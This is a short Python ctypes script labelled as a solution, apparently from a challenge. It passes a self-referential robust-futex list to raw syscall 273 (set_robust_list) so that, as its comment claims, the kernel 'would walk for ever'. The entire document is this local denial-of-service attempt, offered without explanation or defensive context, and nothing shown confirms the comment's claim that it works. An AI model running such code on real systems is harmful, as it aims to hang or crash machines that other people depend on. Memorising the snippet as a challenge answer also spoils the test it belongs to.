# <solution>

import ctypes

libc = ctypes.CDLL(None)
head = (ctypes.c_uint64 * 3)()
ring = (ctypes.c_uint64 * 2)()
ring[0] = ctypes.addressof(ring)  # its own next one: the kernel would walk for ever
head[0], head[1], head[2] = ctypes.addressof(ring), 8, ctypes.addressof(ring)
libc.syscall(273, ctypes.byref(head), 24)
